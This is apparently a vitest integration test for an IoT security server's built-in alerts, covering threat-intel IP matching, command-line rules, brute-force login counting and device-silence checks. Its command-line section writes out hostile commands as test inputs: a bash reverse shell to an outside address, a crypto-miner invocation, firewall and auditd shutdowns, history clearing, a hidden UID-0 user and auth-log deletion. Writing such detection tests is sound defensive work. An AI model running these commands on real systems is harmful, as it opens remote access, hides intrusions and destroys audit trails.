/**
 * Built-in device alerts over the real server: each is raised by a device publishing the triggering
 * security events over MQTT, and a near miss on another device raises nothing (docs/detections.md).
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { JsonPayloadItem, SimulatedIdentity } from '@vigil/sim';
import { loginItem, processItem } from '@vigil/sim';
import { curlConnection as connection } from './support/curl-connection.js';
import { startScenarioServer, type ScenarioServer } from './support/scenario-server.js';

const LISTED = '45.133.1.20';
const UNLISTED = '45.133.2.20';

let t: ScenarioServer;

beforeAll(async () => {
  t = await startScenarioServer({
    feed: ['# scenario feed', `${LISTED}/32`, '10.0.0.0/8', '; IPv6', '2a0b:4140:1::/48'],
  });
}, 30_000);
afterAll(() => t?.stop());

const process = (commandLine: string, executable = commandLine.split(' ')[0]!) =>
  processItem({
    executable,
    commandLine,
    processId: 4242,
    parentProcessId: 1,
    userId: '0',
    userName: 'root',
  });

/** A login item; without an address (a console login) when `remoteAddress` is undefined. */
const login = (
  result: 'Success' | 'Fail',
  remoteAddress: string | undefined,
  processId: number,
): JsonPayloadItem => {
  const item = loginItem({ userName: 'root', result, remoteAddress: remoteAddress ?? '0.0.0.0', processId });
  if (remoteAddress !== undefined) return item;
  return Object.fromEntries(
    Object.entries(item).filter(([field]) => field !== 'RemoteAddress' && field !== 'RemotePort'),
  );
};

const logins = (fails: number, success: boolean, remoteAddress: string | undefined = '198.51.100.7') => [
  ...Array.from({ length: fails }, (_, i) => login('Fail', remoteAddress, 900 + i)),
  ...(success ? [login('Success', remoteAddress, 999)] : []),
];

describe('threat intelligence', () => {
  it('a connection to a listed address raises IoT_SuspiciousIpCommunication naming the feed entry; an unlisted or private one does not', async () => {
    const bad = await t.addAgent('ti-raise');
    const near = await t.addAgent('ti-near');
    await t.sendEvents(bad, [{ name: 'ConnectionCreate', payload: [connection(LISTED)] }]);
    // 10.0.0.0/8 is in the feed but private addresses are set aside unless a feed is internal.
    await t.sendEvents(near, [
      { name: 'ConnectionCreate', payload: [connection(UNLISTED), connection('10.1.2.3')] },
    ]);
    await t.settle();
    expect(await t.alertKeys({ deviceId: 'ti-raise' })).toEqual(['ti-raise:IoT_SuspiciousIpCommunication']);
    expect(await t.alertKeys({ deviceId: 'ti-near' })).toEqual([]);
    const [alert] = (await t.client.listAlerts({ deviceId: 'ti-raise' })).items;
    const detail = await t.client.getAlert(alert!.id);
    expect(JSON.stringify(detail.evidence)).toContain('scenario-feed');
    expect(JSON.stringify(detail.evidence)).toContain(LISTED);
  });

  it('IPv6: an address inside a listed /48 raises, one in the neighbouring /48 does not', async () => {
    const bad = await t.addAgent('ti6-raise');
    const near = await t.addAgent('ti6-near');
    await t.sendEvents(bad, [{ name: 'ConnectionCreate', payload: [connection('2a0b:4140:1::5')] }]);
    await t.sendEvents(near, [{ name: 'ConnectionCreate', payload: [connection('2a0b:4140:2::5')] }]);
    await t.settle();
    expect(await t.alertKeys({ deviceId: 'ti6-raise' })).toEqual(['ti6-raise:IoT_SuspiciousIpCommunication']);
    expect(await t.alertKeys({ deviceId: 'ti6-near' })).toEqual([]);
  });
});

describe('command-line detections', () => {
  const raises: Record<string, string> = {
    Vigil_ReverseShell: 'bash -i >& /dev/tcp/45.133.1.20/4444 0>&1',
    Vigil_CryptoMiner: '/opt/xmrig --url stratum+tcp://pool.example:3333 --donate-level 1',
    Vigil_DisableFirewall: 'ufw disable',
    Vigil_BashHistoryCleared: 'history -c',
    Vigil_SuspiciousUseradd: 'useradd -o -u 0 -M backup2',
    Vigil_NohupFromTemp: 'nohup /tmp/.x/run',
    Vigil_AuditdDisabled: 'systemctl stop auditd',
    Vigil_SystemLogsRemoved: 'rm -f /var/log/auth.log',
  };
  const nearMisses = [
    'nc -zv 192.168.1.1 22',
    '/usr/bin/xmllint --noout config.xml',
    'ufw status verbose',
    'tail -n 20 /root/.bash_history',
    'useradd -m -s /bin/bash alice',
    'nohup /usr/local/bin/backup.sh',
    'systemctl status auditd',
    'ls -l /var/log',
  ];

  it('every rule raises its alert on the device that ran the command, and the look-alike commands raise nothing', async () => {
    const bad = await t.addAgent('cmd-raise');
    const near = await t.addAgent('cmd-near');
    await t.sendEvents(bad, [
      { name: 'ProcessCreate', payload: Object.values(raises).map((line) => process(line)) },
    ]);
    await t.sendEvents(near, [{ name: 'ProcessCreate', payload: nearMisses.map((line) => process(line)) }]);
    await t.settle();
    expect(await t.alertKeys({ deviceId: 'cmd-raise' })).toEqual(
      Object.keys(raises)
        .map((type) => `cmd-raise:${type}`)
        .sort(),
    );
    expect(await t.alertKeys({ deviceId: 'cmd-near' })).toEqual([]);
  });

  it('the same command again is counted on the open alert, not raised twice', async () => {
    const bad = await t.addAgent('cmd-again');
    await t.sendEvents(bad, [{ name: 'ProcessCreate', payload: [process('ufw disable')] }]);
    await t.sendEvents(bad, [{ name: 'ProcessCreate', payload: [process('ufw disable')] }]);
    await t.settle();
    const page = await t.client.listAlerts({ deviceId: 'cmd-again' });
    expect(page.items.map((alert) => [alert.typeId, alert.occurrences])).toEqual([
      ['Vigil_DisableFirewall', 2],
    ]);
  });
});

describe('brute force', () => {
  it('ten failed logins from one address raise Vigil_FailedBruteForce; nine do not', async () => {
    const bad = await t.addAgent('bf-failed');
    const near = await t.addAgent('bf-nine');
    await t.sendEvents(bad, [{ name: 'Login', payload: logins(10, false) }]);
    await t.sendEvents(near, [{ name: 'Login', payload: logins(9, false) }]);
    await t.settle();
    expect(await t.alertKeys({ deviceId: 'bf-failed' })).toEqual(['bf-failed:Vigil_FailedBruteForce']);
    expect(await t.alertKeys({ deviceId: 'bf-nine' })).toEqual([]);
  });

  it('a success after ten failures raises Vigil_SuccessfulBruteForce; after nine, nothing', async () => {
    const bad = await t.addAgent('bf-success');
    const near = await t.addAgent('bf-nine-success');
    await t.sendEvents(bad, [{ name: 'Login', payload: logins(10, true) }]);
    await t.sendEvents(near, [{ name: 'Login', payload: logins(9, true) }]);
    await t.settle();
    expect(await t.alertKeys({ deviceId: 'bf-success' })).toContain('bf-success:Vigil_SuccessfulBruteForce');
    expect(await t.alertKeys({ deviceId: 'bf-nine-success' })).toEqual([]);
  });

  it('logins without a remote address count under the source local: ten raise, nine do not', async () => {
    const bad = await t.addAgent('bf-local');
    const near = await t.addAgent('bf-local-nine');
    await t.sendEvents(bad, [{ name: 'Login', payload: logins(10, false, undefined) }]);
    await t.sendEvents(near, [{ name: 'Login', payload: logins(9, false, undefined) }]);
    await t.settle();
    expect(await t.alertKeys({ deviceId: 'bf-local' })).toEqual(['bf-local:Vigil_FailedBruteForce']);
    expect(await t.alertKeys({ deviceId: 'bf-local-nine' })).toEqual([]);
  });

  it('failures spread over two source addresses do not add up', async () => {
    const near = await t.addAgent('bf-spread');
    await t.sendEvents(near, [
      { name: 'Login', payload: [...logins(5, false, '198.51.100.8'), ...logins(5, false, '198.51.100.9')] },
    ]);
    await t.settle();
    expect(await t.alertKeys({ deviceId: 'bf-spread' })).toEqual([]);
  });
});

describe('device silent', () => {
  const silentAfterMs = 60_000;
  let quiet: SimulatedIdentity;
  let lastMessageAt: number;

  beforeAll(async () => {
    quiet = await t.addAgent('silent-1');
    await t.sendEvents(quiet, [{ name: 'ProcessCreate', payload: [process('/bin/true')] }]);
    await t.settle();
    lastMessageAt = (await t.store.deviceStates.get('silent-1'))!.lastMessageAt!;
  });

  it('no alert one second before the silence threshold; Vigil_DeviceSilent one second after it', async () => {
    await t.clockRunner(() => lastMessageAt + silentAfterMs - 1_000, { silentAfterMs }).runPeriodicChecks();
    expect(await t.alertKeys({ deviceId: 'silent-1', typeId: 'Vigil_DeviceSilent' })).toEqual([]);
    await t.clockRunner(() => lastMessageAt + silentAfterMs + 1_000, { silentAfterMs }).runPeriodicChecks();
    expect(await t.alertKeys({ deviceId: 'silent-1', typeId: 'Vigil_DeviceSilent' })).toEqual([
      'silent-1:Vigil_DeviceSilent',
    ]);
  });

  it('a device that speaks and falls silent again gets a new alert; repeated checks of one silence do not', async () => {
    const checker = t.clockRunner(() => lastMessageAt + silentAfterMs + 5_000, { silentAfterMs });
    await checker.runPeriodicChecks();
    expect(await t.store.alerts.count({ deviceId: 'silent-1', typeId: 'Vigil_DeviceSilent' })).toBe(1);
    await t.sendEvents(quiet, [{ name: 'ProcessCreate', payload: [process('/bin/true')] }]);
    await t.settle();
    const again = (await t.store.deviceStates.get('silent-1'))!.lastMessageAt!;
    await t.clockRunner(() => again + silentAfterMs + 1_000, { silentAfterMs }).runPeriodicChecks();
    expect(await t.store.alerts.count({ deviceId: 'silent-1', typeId: 'Vigil_DeviceSilent' })).toBe(2);
  });
});
